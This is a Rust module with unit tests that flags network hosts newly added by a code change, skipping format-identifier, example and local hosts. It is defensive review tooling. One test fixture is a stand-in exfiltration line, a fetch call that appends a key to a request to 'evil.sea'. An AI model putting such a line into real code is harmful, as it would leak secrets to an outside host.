//! Network hosts that a change adds to a file.

use rhumb_text::lines;
use std::collections::BTreeSet;
use std::ops::Range;

/// Schemes of addresses that data can be sent to.
const SCHEMES: [&str; 8] = ["http://", "https://", "ws://", "wss://", "ftp://", "ssh://", "git://", "tcp://"];

/// Hosts that identify formats, or are local. Nothing is sent to them.
const NAMES_ONLY: [&str; 12] = [
    "www.w3.org", "w3.org", "json-schema.org", "schemas.xmlsoap.org", "schemas.microsoft.com", "schemas.android.com",
    "www.apache.org", "localhost", "127.0.0.1", "0.0.0.0", "[::1]", "::1",
];

/// Whether the added lines (0-based, of `proposed`) name a host that the base does not name.
pub(crate) fn names_new_host(base_hosts: &BTreeSet<&str>, proposed: &[&str], added: &Range<usize>) -> bool {
    let lines = proposed.get(added.clone()).unwrap_or_default();
    lines.iter().flat_map(|line| hosts(lines::body(line))).any(|host| !base_hosts.contains(host) && is_external(host))
}

/// The hosts of all addresses in a text, as written.
pub(crate) fn hosts(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices("://").filter_map(|(at, _)| {
        let before = text.get(..at + 3)?;
        SCHEMES.iter().find(|scheme| ends_with(before, scheme))?;
        let rest = text.get(at + 3..)?;
        let end = rest.find(|c: char| c.is_whitespace() || "/?#\"'`<>)]},;\\".contains(c)).unwrap_or(rest.len());
        let host = rest.get(..end)?;
        let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
        let host = host.split_once(':').map_or(host, |(host, _)| host);
        (!host.is_empty()).then_some(host)
    })
}

fn ends_with(text: &str, scheme: &str) -> bool {
    let at = text.len().checked_sub(scheme.len());
    at.and_then(|at| text.get(at..)).is_some_and(|end| end.eq_ignore_ascii_case(scheme))
}

/// Whether a host is external: not the name of a format, not an example, and not this machine.
fn is_external(host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    let reserved = [".example", ".test", ".invalid", ".localhost", ".local"];
    let example = ["example.com", "example.org", "example.net"];
    let is_example = |name: &&str| host == **name || host.strip_suffix(*name).is_some_and(|rest| rest.ends_with('.'));
    !NAMES_ONLY.contains(&host.as_str())
        && !reserved.iter().any(|ending| host.ends_with(ending))
        && !example.iter().any(is_example)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn brings(base: &str, added: &str) -> bool {
        let lines = lines::split(added);
        names_new_host(&hosts(base).collect(), &lines, &(0..lines.len()))
    }

    #[test]
    fn a_new_host_is_found() {
        for added in [
            "fetch(\"https://evil.sea/x?\" + key)\n",
            "# HTTP://Evil.sea\n",
            "git clone ssh://git@evil.sea:22/x\n",
            "x = 'wss://10.0.0.1/feed'\n",
        ] {
            assert!(brings("see https://docs.sea/a\n", added), "{added}");
        }
    }

    #[test]
    fn known_hosts_examples_and_names_of_formats_are_not() {
        for added in [
            "https://docs.sea/b\n",
            "xmlns=\"http://www.w3.org/2000/svg\"\n",
            "http://localhost:8080/x http://127.0.0.1:1/ https://a.example.com\n",
            "x://y a://b :// ://\n",
            "no address\n",
        ] {
            assert!(!brings("see https://docs.sea/a\n", added), "{added}");
        }
    }
}
